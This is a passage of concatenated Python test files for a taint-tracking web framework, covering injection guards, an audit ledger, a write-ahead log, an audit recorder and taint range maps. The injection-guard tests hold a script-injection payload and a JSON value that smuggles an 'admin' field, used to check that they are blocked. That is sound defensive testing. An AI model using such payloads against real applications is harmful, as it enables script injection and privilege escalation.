                                      ";</script>"))

    def test_untrusted_text_content_allowed(self):
        guard = HTMLStructureGuardFilter()
        comment = mark_untrusted("I liked this paper a lot")
        page = guard.filter_write(concat("<p>", comment, "</p>"))
        assert "liked" in str(page)

    def test_escaped_payload_allowed(self):
        guard = HTMLStructureGuardFilter()
        payload = mark_untrusted("<script>alert(1)</script>")
        guard.filter_write(concat("<p>", html_escape(payload), "</p>"))

    def test_trusted_markup_allowed(self):
        guard = HTMLStructureGuardFilter()
        guard.filter_write(TaintedStr("<script>trusted()</script>"))
        assert guard.filter_write("plain text") == "plain text"


class TestJSONGuardFilter:
    def test_raw_untrusted_value_blocked(self):
        guard = JSONGuardFilter()
        payload = mark_untrusted('", "admin": true, "x": "')
        with pytest.raises(InjectionViolation):
            guard.filter_write(concat('{"comment": "', payload, '"}'))

    def test_encoded_value_allowed(self):
        guard = JSONGuardFilter()
        payload = mark_untrusted('", "admin": true, "x": "')
        body = guard.filter_write(concat('{"comment": ',
                                         json_encode(payload), "}"))
        assert str(body).startswith('{"comment": ')

    def test_plain_json_allowed(self):
        guard = JSONGuardFilter()
        assert guard.filter_write('{"ok": 1}') == '{"ok": 1}'
