"""Audit ledger: framing, rotation, retention, exact-prefix recovery.

The crash-consistency half reuses the PR 7 kill-anywhere pattern from
``tests/integration/test_durability_recovery.py``: truncate the final
segment at *every* byte offset, and flip *every* byte of the final record,
asserting the reopened ledger holds an exact prefix of the appended events
and continues the sequence correctly.
"""

import os

import pytest

from repro.audit.ledger import AuditLedger, MemoryLedger
from repro.storage import framing


def _fill(ledger, count, start=0):
    for index in range(start, start + count):
        ledger.append({"kind": "export", "verdict": "allow", "n": index})


def _events(directory, **kwargs):
    ledger = AuditLedger(directory, **kwargs)
    try:
        return list(ledger.iter_events())
    finally:
        ledger.close()


class TestAppendAndIterate:
    def test_events_round_trip_in_order(self, tmp_path):
        directory = str(tmp_path / "audit")
        with AuditLedger(directory) as ledger:
            _fill(ledger, 10)
        events = _events(directory)
        assert [e["n"] for e in events] == list(range(10))
        assert [e["seq"] for e in events] == list(range(1, 11))

    def test_iter_events_since_seq(self, tmp_path):
        with AuditLedger(str(tmp_path)) as ledger:
            _fill(ledger, 10)
            tail = list(ledger.iter_events(since_seq=7))
        assert [e["seq"] for e in tail] == [8, 9, 10]

    def test_append_on_closed_ledger_raises(self, tmp_path):
        ledger = AuditLedger(str(tmp_path))
        ledger.close()
        with pytest.raises(RuntimeError):
            ledger.append({"kind": "export"})

    def test_seq_continues_after_reopen(self, tmp_path):
        directory = str(tmp_path)
        with AuditLedger(directory) as ledger:
            _fill(ledger, 5)
        with AuditLedger(directory) as ledger:
            assert ledger.next_seq == 6
            _fill(ledger, 2, start=5)
        assert [e["seq"] for e in _events(directory)] == [1, 2, 3, 4, 5, 6, 7]


class TestRotationAndRetention:
    def test_rotates_past_segment_bytes(self, tmp_path):
        directory = str(tmp_path)
        with AuditLedger(directory, segment_bytes=256) as ledger:
            _fill(ledger, 30)
            assert len(ledger.segment_ids()) > 1
        assert [e["n"] for e in _events(directory, segment_bytes=256)] \
            == list(range(30))

    def test_retention_purges_oldest_sealed_segments(self, tmp_path):
        directory = str(tmp_path)
        with AuditLedger(directory, segment_bytes=128,
                         retain_segments=2) as ledger:
            _fill(ledger, 200)
            ids = ledger.segment_ids()
            # active segment + at most retain_segments sealed ones
            assert len(ids) <= 3
            assert ledger.segments_purged > 0
        events = _events(directory, segment_bytes=128)
        # The survivors are the *newest* events, still contiguous.
        numbers = [e["n"] for e in events]
        assert numbers == list(range(numbers[0], 200))
        assert numbers[0] > 0

    def test_segment_files_use_audit_suffix(self, tmp_path):
        directory = str(tmp_path)
        with AuditLedger(directory) as ledger:
            _fill(ledger, 1)
        names = os.listdir(directory)
        assert names == ["seg-00000001.audit"]
        assert framing.parse_segment_id(names[0], ".audit") == 1


class TestKillAnywhereRecovery:
    """Truncate/corrupt every byte of the final record: the reopened ledger
    must hold an exact event prefix and never a torn or corrupt record."""

    EVENTS = 12

    def _seed(self, tmp_path):
        directory = str(tmp_path / "audit")
        with AuditLedger(directory) as ledger:
            _fill(ledger, self.EVENTS)
        path = os.path.join(directory, "seg-00000001.audit")
        with open(path, "rb") as handle:
            data = handle.read()
        # Offset where the final record's frame begins: decode all-but-one
        # byte — the torn tail ends exactly at the last full frame.
        _, final_start = framing.decode_records(data[:-1])
        return directory, path, data, final_start

    def test_truncate_at_every_offset_recovers_exact_prefix(self, tmp_path):
        directory, path, data, final_start = self._seed(tmp_path)
        for cut in range(final_start, len(data) + 1):
            with open(path, "wb") as handle:
                handle.write(data[:cut])
            events = _events(directory)
            expected = self.EVENTS if cut == len(data) else self.EVENTS - 1
            assert [e["n"] for e in events] == list(range(expected)), cut
            # Reopen truncated the tail: the file is clean again.
            with open(path, "rb") as handle:
                after = handle.read()
            _, valid = framing.decode_records(after)
            assert valid == len(after)
            with open(path, "wb") as handle:
                handle.write(data)

    def test_corrupt_every_byte_of_final_record_drops_only_it(self, tmp_path):
        directory, path, data, final_start = self._seed(tmp_path)
        for index in range(final_start, len(data)):
            mutated = bytearray(data)
            mutated[index] ^= 0xFF
            with open(path, "wb") as handle:
                handle.write(bytes(mutated))
            events = _events(directory)
            assert [e["n"] for e in events] == list(range(self.EVENTS - 1)), \
                index
            with open(path, "wb") as handle:
                handle.write(data)

    def test_sequence_continues_from_surviving_prefix(self, tmp_path):
        directory, path, data, final_start = self._seed(tmp_path)
        with open(path, "wb") as handle:
            handle.write(data[: len(data) - 3])
        with AuditLedger(directory) as ledger:
            assert ledger.next_seq == self.EVENTS  # lost event's seq reused
            ledger.append({"kind": "export", "n": self.EVENTS - 1})
        numbers = [e["n"] for e in _events(directory)]
        assert numbers == list(range(self.EVENTS))


class TestMemoryLedger:
    def test_round_trip_and_seq(self):
        ledger = MemoryLedger()
        _fill(ledger, 5)
        assert [e["seq"] for e in ledger.iter_events()] == [1, 2, 3, 4, 5]
        assert list(ledger.iter_events(since_seq=3)) == \
            [e for e in ledger.iter_events() if e["seq"] > 3]

    def test_bounded_retention(self):
        ledger = MemoryLedger(retain_events=10)
        _fill(ledger, 25)
        numbers = [e["n"] for e in ledger.iter_events()]
        assert numbers == list(range(15, 25))
