"""Unit tests for the write-ahead log and the checkpoint gate.

Covers the frame codec (length + checksum, torn-tail semantics), the
leader/follower group commit, segment rotation/retirement, and the
shared/exclusive gate the durability service builds checkpoints on.
"""

import os
import threading
import time

import pytest

from repro.core.exceptions import SerializationError
from repro.core.locking import SharedExclusiveGate
from repro.storage.wal import (
    WriteAheadLog,
    decode_records,
    decode_value,
    encode_record,
    encode_value,
)


class TestFrameCodec:
    def test_roundtrip(self):
        records = [{"op": "a", "n": 1}, {"op": "b", "s": "x"}]
        data = b"".join(encode_record(r) for r in records)
        decoded, valid = decode_records(data)
        assert decoded == records
        assert valid == len(data)

    def test_empty_buffer(self):
        assert decode_records(b"") == ([], 0)

    def test_torn_tail_yields_prefix(self):
        first = encode_record({"op": "a"})
        second = encode_record({"op": "b"})
        blob = first + second
        # Truncating anywhere inside the second frame must decode exactly
        # the first record and report the prefix boundary.
        for cut in range(len(first) + 1, len(blob)):
            decoded, valid = decode_records(blob[:cut])
            assert decoded == [{"op": "a"}]
            assert valid == len(first)

    def test_corrupt_byte_stops_decode(self):
        first = encode_record({"op": "a"})
        second = encode_record({"op": "b"})
        blob = bytearray(first + second)
        for index in range(len(first), len(blob)):
            corrupted = bytearray(blob)
            corrupted[index] ^= 0xFF
            decoded, valid = decode_records(bytes(corrupted))
            assert decoded == [{"op": "a"}]
            assert valid == len(first)

    def test_implausible_length_stops_decode(self):
        first = encode_record({"op": "a"})
        bogus = (1 << 31).to_bytes(4, "big") + b"\x00" * 10
        decoded, valid = decode_records(first + bogus)
        assert decoded == [{"op": "a"}]
        assert valid == len(first)

    def test_value_codec_bytes(self):
        assert decode_value(encode_value(b"\x00\xff")) == b"\x00\xff"
        assert encode_value("plain") == "plain"
        assert encode_value(None) is None


class TestRecordSizeLimit:
    """The frame limit must be symmetric: anything the writer accepts, the
    reader accepts — an encode-side cap prevents acknowledged-durable
    records that replay would silently drop as corrupt length prefixes."""

    def test_encode_over_limit_raises(self):
        with pytest.raises(SerializationError):
            encode_record({"op": "big", "data": "x" * 100}, max_bytes=50)

    def test_boundary_record_roundtrips(self):
        record = {"op": "edge", "data": "x" * 40}
        limit = len(encode_record(record, max_bytes=None)) - 8
        frame = encode_record(record, max_bytes=limit)
        decoded, valid = decode_records(frame, max_record_bytes=limit)
        assert decoded == [record]
        assert valid == len(frame)

    def test_uncapped_mode_for_snapshot_frames(self, monkeypatch):
        monkeypatch.setattr("repro.storage.wal.MAX_RECORD_BYTES", 64)
        doc = {"op": "snapshot", "data": "x" * 500}
        frame = encode_record(doc, max_bytes=None)
        decoded, valid = decode_records(frame, max_record_bytes=None)
        assert decoded == [doc]
        assert valid == len(frame)
        # The default (WAL) path enforces the cap on both sides.
        with pytest.raises(SerializationError):
            encode_record(doc)
        assert decode_records(frame) == ([], 0)

    def test_append_rejects_oversized_record(self, tmp_path, monkeypatch):
        monkeypatch.setattr("repro.storage.wal.MAX_RECORD_BYTES", 64)
        wal = WriteAheadLog(str(tmp_path))
        wal.log({"op": "small"})
        with pytest.raises(SerializationError):
            wal.append({"op": "big", "data": "x" * 200})
        # The oversized record was rejected before buffering: the log stays
        # healthy and every accepted record replays.
        wal.log({"op": "small2"})
        wal.close()
        wal2 = WriteAheadLog(str(tmp_path))
        assert list(wal2.replay()) == [{"op": "small"}, {"op": "small2"}]
        wal2.close()


class TestWriteAheadLog:
    def test_log_and_replay(self, tmp_path):
        wal = WriteAheadLog(str(tmp_path))
        wal.log({"op": "one"})
        wal.log({"op": "two"})
        wal.close()
        wal2 = WriteAheadLog(str(tmp_path))
        assert list(wal2.replay()) == [{"op": "one"}, {"op": "two"}]
        wal2.close()

    def test_append_alone_is_not_durable(self, tmp_path):
        wal = WriteAheadLog(str(tmp_path))
        wal.append({"op": "buffered"})
        # A crash before commit loses the buffered record: nothing was
        # written to the segment file yet.
        path = wal.segment_path(wal.segment_ids()[0])
        assert os.path.getsize(path) == 0
        wal.commit()
        assert os.path.getsize(path) > 0
        wal.close()

    def test_group_commit_batches_syncs(self, tmp_path):
        wal = WriteAheadLog(str(tmp_path))
        lsns = [wal.append({"op": "r", "i": i}) for i in range(10)]
        wal.commit(lsns[-1])
        assert wal.records == 10
        assert wal.syncs == 1
        assert list(wal.replay()) == [{"op": "r", "i": i} for i in range(10)]
        wal.close()

    def test_no_group_commit_pays_per_record(self, tmp_path):
        wal = WriteAheadLog(str(tmp_path), group_commit=False)
        for i in range(5):
            wal.log({"op": "r", "i": i})
        assert wal.records == 5
        assert wal.syncs == 5
        wal.close()

    def test_concurrent_commit_all_durable(self, tmp_path):
        wal = WriteAheadLog(str(tmp_path))
        barrier = threading.Barrier(8)
        errors = []

        def writer(i):
            try:
                barrier.wait()
                for j in range(5):
                    wal.log({"op": "w", "i": i, "j": j})
            except Exception as exc:  # pragma: no cover - surfaced below
                errors.append(exc)

        threads = [threading.Thread(target=writer, args=(i,))
                   for i in range(8)]
        for t in threads:
            t.start()
        for t in threads:
            t.join()
        assert not errors
        assert wal.records == 40
        assert wal.syncs <= wal.records
        replayed = list(wal.replay())
        assert len(replayed) == 40
        assert {(r["i"], r["j"]) for r in replayed} == {
            (i, j) for i in range(8) for j in range(5)}
        wal.close()

    def test_rotate_requires_drained_log(self, tmp_path):
        wal = WriteAheadLog(str(tmp_path))
        wal.append({"op": "pending"})
        with pytest.raises(RuntimeError):
            wal.rotate()
        wal.commit()
        new_id = wal.rotate()
        assert wal.segment_ids() == [1, new_id]
        wal.close()

    def test_retire_before_removes_segments(self, tmp_path):
        wal = WriteAheadLog(str(tmp_path))
        wal.log({"op": "old"})
        new_id = wal.rotate()
        wal.log({"op": "new"})
        removed = wal.retire_before(new_id)
        assert removed == [1]
        assert wal.segment_ids() == [new_id]
        assert list(wal.replay()) == [{"op": "new"}]
        wal.close()

    def test_replay_from_start_segment(self, tmp_path):
        wal = WriteAheadLog(str(tmp_path))
        wal.log({"op": "old"})
        new_id = wal.rotate()
        wal.log({"op": "new"})
        assert list(wal.replay(new_id)) == [{"op": "new"}]
        assert list(wal.replay()) == [{"op": "old"}, {"op": "new"}]
        wal.close()

    def test_open_truncates_torn_tail(self, tmp_path):
        wal = WriteAheadLog(str(tmp_path))
        wal.log({"op": "kept"})
        path = wal.segment_path(wal.segment_ids()[-1])
        wal.close()
        with open(path, "ab") as handle:
            handle.write(b"\x00\x00\x00\x0cgarbage!")
        wal2 = WriteAheadLog(str(tmp_path))
        assert list(wal2.replay()) == [{"op": "kept"}]
        wal2.log({"op": "after"})
        wal2.close()
        wal3 = WriteAheadLog(str(tmp_path))
        assert list(wal3.replay()) == [{"op": "kept"}, {"op": "after"}]
        wal3.close()

    def test_unknown_sync_mode_rejected(self, tmp_path):
        with pytest.raises(ValueError):
            WriteAheadLog(str(tmp_path), sync="maybe")

    def test_write_failure_poisons_log(self, tmp_path, monkeypatch):
        wal = WriteAheadLog(str(tmp_path))
        wal.log({"op": "good"})
        lsn = wal.append({"op": "doomed"})

        def boom(fd):
            raise OSError("disk gone")

        monkeypatch.setattr(os, "fsync", boom)
        with pytest.raises(OSError):
            wal.commit(lsn)
        monkeypatch.undo()
        # The failed batch was consumed without a sync barrier, so no later
        # commit may ever acknowledge it (or anything after it) as durable.
        with pytest.raises(RuntimeError):
            wal.commit(lsn)
        with pytest.raises(RuntimeError):
            wal.append({"op": "after"})
        with pytest.raises(RuntimeError):
            wal.rotate()
        # Records synced *before* the failure stay acknowledged.
        wal.commit(1)
        with pytest.raises(RuntimeError):
            wal.close()

    def test_follower_sees_leader_write_failure(self, tmp_path):
        wal = WriteAheadLog(str(tmp_path))
        in_write = threading.Event()
        release = threading.Event()

        def failing_write(frames):
            in_write.set()
            release.wait(5)
            raise OSError("disk gone")

        wal._write_frames = failing_write
        lsn1 = wal.append({"op": "a"})
        results = {}

        def committer(name, lsn):
            try:
                wal.commit(lsn)
                results[name] = None
            except Exception as exc:
                results[name] = exc

        leader = threading.Thread(target=committer, args=("leader", lsn1))
        leader.start()
        assert in_write.wait(5)
        lsn2 = wal.append({"op": "b"})
        follower = threading.Thread(target=committer, args=("follower", lsn2))
        follower.start()
        time.sleep(0.05)  # let the follower reach its wait
        release.set()
        leader.join(5)
        follower.join(5)
        # The leader surfaces the I/O error; the follower must NOT return
        # success for a record that never reached the disk.
        assert isinstance(results["leader"], OSError)
        assert isinstance(results["follower"], RuntimeError)
        with pytest.raises(RuntimeError):
            wal.close()

    def test_size_tracks_written_and_pending(self, tmp_path):
        wal = WriteAheadLog(str(tmp_path))
        assert wal.size == 0
        wal.append({"op": "a"})
        pending = wal.size
        assert pending > 0
        wal.commit()
        assert wal.size >= pending
        wal.close()


class TestSharedExclusiveGate:
    def test_shared_is_reentrant(self):
        gate = SharedExclusiveGate()
        with gate.shared():
            assert gate.shared_depth() == 1
            with gate.shared():
                assert gate.shared_depth() == 2
            assert gate.shared_depth() == 1
        assert gate.shared_depth() == 0

    def test_try_exclusive_fails_under_shared(self):
        gate = SharedExclusiveGate()
        entered = threading.Event()
        release = threading.Event()

        def holder():
            with gate.shared():
                entered.set()
                release.wait(5)

        t = threading.Thread(target=holder)
        t.start()
        assert entered.wait(5)
        assert gate.try_exclusive() is None
        release.set()
        t.join()
        ctx = gate.try_exclusive()
        assert ctx is not None
        with ctx:
            assert gate.try_exclusive() is None

    def test_exclusive_blocks_shared_entries(self):
        gate = SharedExclusiveGate()
        order = []
        in_exclusive = threading.Event()
        release = threading.Event()

        def checkpointer():
            with gate.exclusive():
                order.append("exclusive-start")
                in_exclusive.set()
                release.wait(5)
                order.append("exclusive-end")

        def mutator():
            in_exclusive.wait(5)
            with gate.shared():
                order.append("shared")

        t1 = threading.Thread(target=checkpointer)
        t2 = threading.Thread(target=mutator)
        t1.start()
        t2.start()
        assert in_exclusive.wait(5)
        release.set()
        t1.join(5)
        t2.join(5)
        assert order == ["exclusive-start", "exclusive-end", "shared"]

    def test_exclusive_waits_for_shared_drain(self):
        gate = SharedExclusiveGate()
        order = []
        in_shared = threading.Event()
        release = threading.Event()

        def mutator():
            with gate.shared():
                in_shared.set()
                release.wait(5)
                order.append("shared-end")

        def checkpointer():
            in_shared.wait(5)
            with gate.exclusive():
                order.append("exclusive")

        t1 = threading.Thread(target=mutator)
        t2 = threading.Thread(target=checkpointer)
        t1.start()
        t2.start()
        assert in_shared.wait(5)
        release.set()
        t1.join(5)
        t2.join(5)
        assert order == ["shared-end", "exclusive"]

    def test_shared_does_not_wait_for_queued_exclusive(self):
        # Deadlock-freedom property: a queued exclusive waiter must not bar
        # new shared entries (a barred mutator may hold a substrate lock the
        # current shared holder is waiting for).
        gate = SharedExclusiveGate()
        in_shared = threading.Event()
        release = threading.Event()
        second_done = threading.Event()

        def holder():
            with gate.shared():
                in_shared.set()
                release.wait(5)

        def waiter():
            in_shared.wait(5)
            with gate.exclusive():
                pass

        t1 = threading.Thread(target=holder)
        t2 = threading.Thread(target=waiter)
        t1.start()
        t2.start()
        assert in_shared.wait(5)

        def barger():
            with gate.shared():
                second_done.set()

        t3 = threading.Thread(target=barger)
        t3.start()
        # The barger must get through while the exclusive waiter queues.
        assert second_done.wait(5)
        release.set()
        t1.join(5)
        t2.join(5)
        t3.join(5)
