"""Audit recorder: capture semantics, backpressure, query API, hooks.

The invariants under test are the ones the instrumentation relies on:
recording never raises into (or changes the verdict of) the instrumented
boundary, queue pressure drops the *oldest* pending event and counts it,
and events carry the request id / principal / route / channel / policy
blob / provenance chain the ledger schema promises.
"""

import warnings

import pytest

from repro.audit.ledger import MemoryLedger
from repro.audit.recorder import AuditRecorder, default_audit, recorder_for
from repro.core.exceptions import DisclosureViolation, ResinWarning
from repro.policies import PasswordPolicy, UntrustedData
from repro.runtime_api import Resin


@pytest.fixture
def resin():
    return Resin()


@pytest.fixture
def recorder(resin):
    recorder = resin.enable_audit()
    yield recorder
    recorder.close()


def _one(events):
    events = list(events)
    assert len(events) == 1, events
    return events[0]


class TestExportEvents:
    def test_denied_export_records_full_attribution(self, resin, recorder):
        pw = resin.taint("s3cret", PasswordPolicy("a@b.c"))
        with pytest.raises(DisclosureViolation):
            with resin.request(user="alice") as http:
                http.write("password: " + pw)
        event = _one(recorder.events(kind="export"))
        assert event["verdict"] == "deny"
        assert event["channel"] == "http"
        assert event["principal"] == "alice"
        assert event["request"] == 1
        assert event["violation"]["type"] == "DisclosureViolation"
        assert event["policies"][0]["class"].endswith("PasswordPolicy")
        assert event["policies"][0]["fields"]["email"] == "a@b.c"
        # Provenance: the tainted segment's offsets within the exported data.
        [[start, stop, refs]] = event["provenance"]
        assert (start, stop) == (len("password: "), len("password: s3cret"))
        assert refs == [0]

    def test_allowed_export_records_allow(self, resin, recorder):
        pw = resin.taint("s3cret", PasswordPolicy("a@b.c"))
        with resin.request(user="chair", priv_chair=True) as http:
            http.write(pw)
        event = _one(recorder.events(kind="export"))
        assert event["verdict"] == "allow"
        assert event["request"] == 1

    def test_untainted_writes_record_nothing(self, resin, recorder):
        with resin.request(user="alice") as http:
            http.write("plain text, no policies")
        assert list(recorder.events()) == []

    def test_declassify_is_recorded(self, resin, recorder):
        pw = resin.taint("s3cret", PasswordPolicy("a@b.c"))
        with resin.request(user="admin"):
            plain = resin.declassify(pw)
        assert plain == "s3cret"
        event = _one(recorder.events(kind="declassify"))
        assert event["principal"] == "admin"
        assert event["policies"][0]["class"].endswith("PasswordPolicy")

    def test_verdict_identical_with_and_without_recorder(self, resin):
        """Recording never changes a verdict: the same write sequence
        allows/denies identically with audit on and off."""

        def run(r):
            outcomes = []
            pw = r.taint("s3cret", PasswordPolicy("a@b.c"))
            for user, chair in [("alice", False), ("chair", True)]:
                try:
                    with r.request(user=user, priv_chair=chair) as http:
                        http.write(pw)
                    outcomes.append("allow")
                except DisclosureViolation:
                    outcomes.append("deny")
            return outcomes

        silent = run(Resin())
        audited_resin = Resin()
        audited_resin.enable_audit()
        try:
            assert run(audited_resin) == silent == ["deny", "allow"]
        finally:
            audited_resin.audit.close()


class TestBackpressureAndSafety:
    def test_queue_pressure_drops_oldest_and_counts(self):
        recorder = AuditRecorder(MemoryLedger(), queue_limit=4)
        # Freeze the writer so the queue genuinely fills.
        with recorder._cond:
            for n in range(10):
                if len(recorder._queue) >= recorder.queue_limit:
                    del recorder._queue[0]
                    recorder.dropped_events += 1
                recorder._queue.append({"ts": 0.0, "kind": "export", "n": n})
        recorder.flush()
        assert recorder.dropped_events == 6
        survivors = [e["n"] for e in recorder.ledger.iter_events()]
        assert survivors == [6, 7, 8, 9]
        recorder.close()

    def test_record_never_raises(self):
        class ExplodingLedger(MemoryLedger):
            def append(self, event):
                raise RuntimeError("disk on fire")

        recorder = AuditRecorder(ExplodingLedger())
        recorder.record("export", verdict="allow")
        recorder.flush()
        assert recorder.record_errors >= 1
        assert recorder.events_recorded == 0
        recorder.close()

    def test_unserializable_policy_falls_back_to_repr(self):
        class Weird:  # not a Policy at all
            def __repr__(self):
                return "<weird>"

        recorder = AuditRecorder(MemoryLedger())
        recorder.record("export", verdict="allow", policies=[Weird()])
        recorder.flush()
        [event] = recorder.ledger.iter_events()
        assert event["policies"][0]["class"] == "Weird"
        recorder.close()

    def test_close_drains_pending_events(self):
        recorder = AuditRecorder(MemoryLedger())
        for n in range(50):
            recorder.record("export", verdict="allow", detail={"n": n})
        recorder.close()
        assert recorder.events_recorded == 50


class TestServiceWiring:
    def test_recorder_for_prefers_env_service(self, resin, recorder):
        assert recorder_for(resin.env) is recorder
        assert resin.audit is recorder

    def test_recorder_for_none_without_audit(self):
        assert recorder_for(Resin().env) is None

    def test_default_audit_hook_scopes_and_restores(self, resin):
        other = Resin()
        recorder = AuditRecorder(MemoryLedger())
        assert recorder_for(other.env) is None
        with default_audit(recorder):
            assert recorder_for(other.env) is recorder
            # An env-registered recorder still wins over the default.
            own = resin.enable_audit()
            assert recorder_for(resin.env) is own
            own.close()
        assert recorder_for(other.env) is None
        recorder.close()

    def test_enable_audit_is_idempotent(self, resin):
        first = resin.enable_audit()
        assert resin.enable_audit() is first
        first.close()

    def test_close_detaches_service(self, resin):
        recorder = resin.enable_audit()
        recorder.close()
        assert resin.audit is None


class TestQueryFilters:
    def test_filters_compose(self, resin, recorder):
        pw_a = resin.taint("pw-a", PasswordPolicy("a@b.c"))
        untrusted = resin.taint("<x>", UntrustedData("form"))
        with resin.request(user="chair", priv_chair=True) as http:
            http.write(pw_a)
        with resin.request(user="bob") as http:
            http.write(untrusted)
        assert _one(recorder.events(policy=PasswordPolicy))["request"] == 1
        assert _one(recorder.events(principal="bob"))["request"] == 2
        assert _one(recorder.events(request=2))["principal"] == "bob"
        assert list(recorder.events(policy=PasswordPolicy("z@z.z"))) == []
        assert len(list(recorder.events(kind="export"))) == 2
        later = _one(recorder.events(policy="UntrustedData"))
        assert list(recorder.events(since=later["ts"])) == [later]


class TestFormatPolicyDrop:
    def test_format_of_tainted_str_warns_and_records(self, resin, recorder):
        pw = resin.taint("s3cret", PasswordPolicy("a@b.c"))
        with resin.request(user="dev"):
            with pytest.warns(ResinWarning):
                text = f"value={pw}"
        assert text == "value=s3cret"
        event = _one(recorder.events(kind="policy_dropped"))
        assert event["principal"] == "dev"
        assert event["policies"][0]["class"].endswith("PasswordPolicy")
        assert event["detail"]["op"] == "format"

    def test_untainted_format_is_silent(self, resin, recorder):
        from repro.tracking import TaintedStr

        with warnings.catch_warnings():
            warnings.simplefilter("error")
            assert f"{TaintedStr('plain')}" == "plain"
        assert list(recorder.events(kind="policy_dropped")) == []

    def test_interpolation_helpers_do_not_warn(self, resin, recorder):
        """TaintedStr.format() re-applies policies to the result — nothing
        is dropped there, so the loud path must stay quiet."""
        pw = resin.taint("s3cret", PasswordPolicy("a@b.c"))
        from repro.tracking import TaintedStr

        template = TaintedStr("value={}")
        with warnings.catch_warnings():
            warnings.simplefilter("error")
            result = template.format(pw)
        assert result.policies()
        assert list(recorder.events(kind="policy_dropped")) == []


class TestRequestIdStamping:
    def test_request_scope_ids_are_monotonic_per_env(self, resin):
        ids = []
        for _ in range(3):
            with resin.request(user="u"):
                from repro.core.request_context import current_request

                ids.append(current_request().request_id)
        assert ids == [1, 2, 3]

    def test_dispatcher_stamps_request_and_log_line(self, resin):
        from repro.server.dispatcher import Dispatcher
        from repro.web import RequestLogMiddleware, WebApplication
        from repro.web.request import Request

        app = WebApplication(resin.env)
        log = RequestLogMiddleware()
        app.middleware(log)

        @app.route("/whoami")
        def whoami(request, response):
            response.write(f"id={request.id}")

        requests = [Request("/whoami", user=f"u{i}") for i in range(4)]
        with Dispatcher(app, workers=4, resin=resin) as server:
            results = server.dispatch_all(requests)
        bodies = sorted(channel.body() for channel in results)
        assert bodies == [f"id={i}" for i in range(1, 5)]
        assert sorted(entry[0] for entry in log.entries) == [1, 2, 3, 4]
        assert all(entry[1:3] == ("GET", "/whoami") for entry in log.entries)
