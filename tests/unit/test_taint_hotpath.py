"""Unit tests for the taint hot path: lazy ropes, interning, merge memo."""

import sys

from repro.core.policy import Policy
from repro.core.policyset import PolicySet
from repro.core.serialization import (
    deserialize_policyset,
    dumps_rangemap,
    serialize_policyset,
)
from repro.policies import UntrustedData
from repro.tracking import (
    TaintedStr,
    clear_merge_cache,
    merge_cache_info,
    merge_policysets,
    taint_str,
)
from repro.tracking.ranges import PolicyRange, RangeMap

P = UntrustedData("alice")


class TestLazyRangeMap:
    def test_concat_is_deferred_until_inspection(self):
        left = RangeMap.uniform(4, PolicySet.of(P))
        right = RangeMap.empty(3)
        combined = left.concat(right)
        assert not combined.is_materialized()
        assert combined.length == 7
        assert combined.policies_at(0) == {P}
        assert combined.is_materialized()

    def test_policy_free_concat_collapses_eagerly(self):
        combined = RangeMap.empty(4).concat(RangeMap.empty(2))
        assert combined.is_materialized()
        assert combined.is_empty()

    def test_tainted_concat_loop_stays_lazy(self):
        piece = taint_str("ab", P)
        out = TaintedStr("")
        for _ in range(50):
            out = out + piece + "plain"
        assert not out.rangemap.is_materialized()
        assert len(out.rangemap.ranges) == 50
        assert out.rangemap.is_materialized()

    def test_deep_chain_does_not_recurse(self):
        piece = taint_str("x", P)
        out = TaintedStr("")
        depth = sys.getrecursionlimit() * 2
        for _ in range(depth):
            out = out + piece
        assert out.rangemap.ranges == (PolicyRange(0, depth, PolicySet.of(P)),)

    def test_slice_of_rope_composes_views(self):
        piece = taint_str("abcd", P)
        rope = (piece + "qr" + piece).rangemap
        view = rope.slice(1, 9).slice(1, 7)
        expected = [{P}, {P}, set(), set(), {P}, {P}]
        assert [view.policies_at(i) for i in range(view.length)] == expected

    def test_repeat_is_deferred(self):
        base = RangeMap.uniform(2, PolicySet.of(P))
        repeated = base.repeat(100)
        assert not repeated.is_materialized()
        assert repeated.ranges == (PolicyRange(0, 200, PolicySet.of(P)),)

    def test_lazy_rope_serializes_identically_to_eager(self):
        piece = taint_str("ab", P)
        lazy = (piece + "cd" + piece).rangemap
        eager = RangeMap(
            6,
            [
                PolicyRange(0, 2, PolicySet.of(P)),
                PolicyRange(4, 6, PolicySet.of(P)),
            ],
        )
        assert dumps_rangemap(lazy) == dumps_rangemap(eager)


class TestEncodePerSegment:
    def test_multibyte_segments_match_per_character_oracle(self):
        text = "aé漢z\U0001f600b"
        rmap = RangeMap(
            len(text),
            [
                PolicyRange(1, 3, PolicySet.of(P)),
                PolicyRange(4, 5, PolicySet.of(UntrustedData("bob"))),
            ],
        )
        tainted = TaintedStr(text, rmap)
        encoded = tainted.encode("utf-8")
        # Oracle: the retired per-character walk.
        offset = 0
        expected = []
        for index in range(len(text)):
            chunk = text[index].encode("utf-8")
            pset = tainted.policies_at(index)
            if pset:
                expected.append(PolicyRange(offset, offset + len(chunk), pset))
            offset += len(chunk)
        assert encoded.rangemap == RangeMap(offset, expected)

    def test_uniform_fast_path(self):
        tainted = taint_str("héllo", P)
        encoded = tainted.encode()
        nbytes = len("héllo".encode())
        assert encoded.rangemap.ranges == (PolicyRange(0, nbytes, PolicySet.of(P)),)


class TestInternedSets:
    def test_construction_interns(self):
        first = PolicySet.of(UntrustedData("alice"))
        second = PolicySet.of(UntrustedData("alice"))
        assert first is second

    def test_deserialize_rehydrates_to_interned_instance(self):
        live = PolicySet.of(P)
        assert deserialize_policyset(serialize_policyset(live)) is live


class TestMergeMemo:
    def test_cache_hits_for_repeated_pairs(self):
        left = PolicySet.of(UntrustedData("a"))
        right = PolicySet.of(UntrustedData("b"))
        clear_merge_cache()
        merge_policysets(left, right)
        before = merge_cache_info()
        merge_policysets(left, right)
        after = merge_cache_info()
        assert after["hits"] == before["hits"] + 1
        assert after["size"] == before["size"]

    def test_merge_cacheable_opt_out(self):
        class StatefulPolicy(Policy):
            merge_cacheable = False
            calls = 0

            def merge(self, other_policies):
                type(self).calls += 1
                return (self,)

        stateful = PolicySet.of(StatefulPolicy())
        other = PolicySet.of(UntrustedData("x"))
        clear_merge_cache()
        merge_policysets(stateful, other)
        merge_policysets(stateful, other)
        assert StatefulPolicy.calls == 2
        assert merge_cache_info()["size"] == 0
