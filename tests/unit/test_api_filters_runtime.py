"""Unit tests for the public API (Table 3), filter objects and the runtime
boundary machinery."""

import pytest

from repro.core import (DeclassifyFilter, DefaultFilter, Filter, FilterChain,
                        FilterContext, OutputBuffer, as_context, check_export,
                        default_registry, filter_of, guard_function,
                        has_policy, make_default_filter, policy_add,
                        policy_get, policy_remove, taint, untaint)
from repro.core.exceptions import FilterError, PolicyViolation
from repro.core.policyset import PolicySet
from repro.policies import PasswordPolicy, SQLSanitized, UntrustedData
